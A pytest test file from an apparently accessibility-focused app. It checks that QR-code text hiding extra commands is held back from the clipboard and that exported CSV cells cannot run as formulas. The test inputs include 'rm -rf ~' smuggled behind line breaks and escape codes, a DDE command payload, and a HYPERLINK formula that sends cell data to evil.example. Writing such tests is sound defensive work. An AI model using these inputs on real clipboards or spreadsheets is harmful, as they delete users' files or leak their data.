"""What goes to the clipboard and into tables does nothing by itself where it is pasted or opened."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

import pytest

from seesay.app.bulk.alt_text import COLUMNS, _rows, _table
from seesay.app.document_markup import as_csv
from seesay.core.elements import Element
from seesay.core.findings import Code
from seesay.core.region import Region
from seesay.core.text.cleaning import csv_cell, from_csv_cell
from seesay.description.captions.barcode_claims import hidden_lines
from seesay.ui import screen_actions
from seesay.ui.screen_actions import ScreenActions


def code(text: str) -> Code:
    return Code("qr", text, Region(0, 0, 9, 9))


HIDDEN = (
    "ls\r\nrm -rf ~",
    "ls\nrm -rf ~",
    "ls\rrm -rf ~",
    "ls\u2028rm -rf ~",
    "ls\x85rm -rf ~",
    "rm -rf ~\n",
    "ls\x1b[201~rm",
    "ls\x03rm",
    "abc\u202egnp.exe",
)


@pytest.mark.parametrize("text", HIDDEN)
def test_a_code_that_holds_more_than_is_heard_takes_a_second_key(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    pasted: list[str] = []
    said: list[str] = []
    clipboard = SimpleNamespace(clipboard=lambda: SimpleNamespace(setText=pasted.append))
    monkeypatch.setattr(screen_actions, "QGuiApplication", clipboard)
    latest = SimpleNamespace(description=SimpleNamespace(codes=(code(text),)))
    actions: Any = SimpleNamespace(
        _remembered=SimpleNamespace(history=SimpleNamespace(latest=latest)), _say=said.append, _warned_of=()
    )
    ScreenActions.copy_code(actions)
    assert not pasted
    assert said[0].startswith("Not copied yet: the text of the code has ")
    latest.description = SimpleNamespace(codes=(code(f"{text} "),))
    ScreenActions.copy_code(actions)
    assert not pasted, "another code is asked about anew"
    ScreenActions.copy_code(actions)
    assert pasted == [f"{text} "]
    assert "code copied" in said[-1].lower()
    latest.description = SimpleNamespace(codes=(code("https://example.org/x"),))
    ScreenActions.copy_code(actions)
    assert pasted[1:] == ["https://example.org/x"]


def test_lines_are_counted() -> None:
    assert "has 2 lines" in hidden_lines([code("ls\r\nrm -rf ~")])
    assert hidden_lines([code("https://example.org"), code("4006381333931")]) == ""


FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"Total")', "=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1",
    "\n=1", " =1+1", "＝1+1", "-2+3+cmd", "+A1", "- Milk", "'=1", "-", "=",
)  # fmt: skip
HARMLESS = (
    "-5", "-5.20", "-1,234.50", "-1.234,50", "- 12,5 %", "-12%", "+3", "-€5", "-12,50 €", "-12 EUR", "+49 30 123456",
    "5", "Total", "a=b", "it's", "'quoted'", "", "−5",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_is_no_formula(text: str) -> None:
    assert csv_cell(text) == f"'{text}"
    assert from_csv_cell(csv_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_are_written_as_they_are(text: str) -> None:
    assert csv_cell(text) == text == from_csv_cell(text)


def test_every_table_is_written_so() -> None:
    texts = [*FORMULAS, *HARMLESS]
    rows = [dict.fromkeys(COLUMNS, text) for text in texts]
    written = list(csv.reader(io.StringIO(_table(rows), newline="")))[1:]
    assert [row[1] for row in written] == [csv_cell(text) for text in texts]
    assert _rows(_table(rows)) == rows
    cells = tuple(Element("cell", text, None) for text in ("=1+1", "-5"))
    table = Element("table", "", None, children=(Element("row", "", None, children=cells),))
    assert as_csv([table]) == "'=1+1,-5\n"
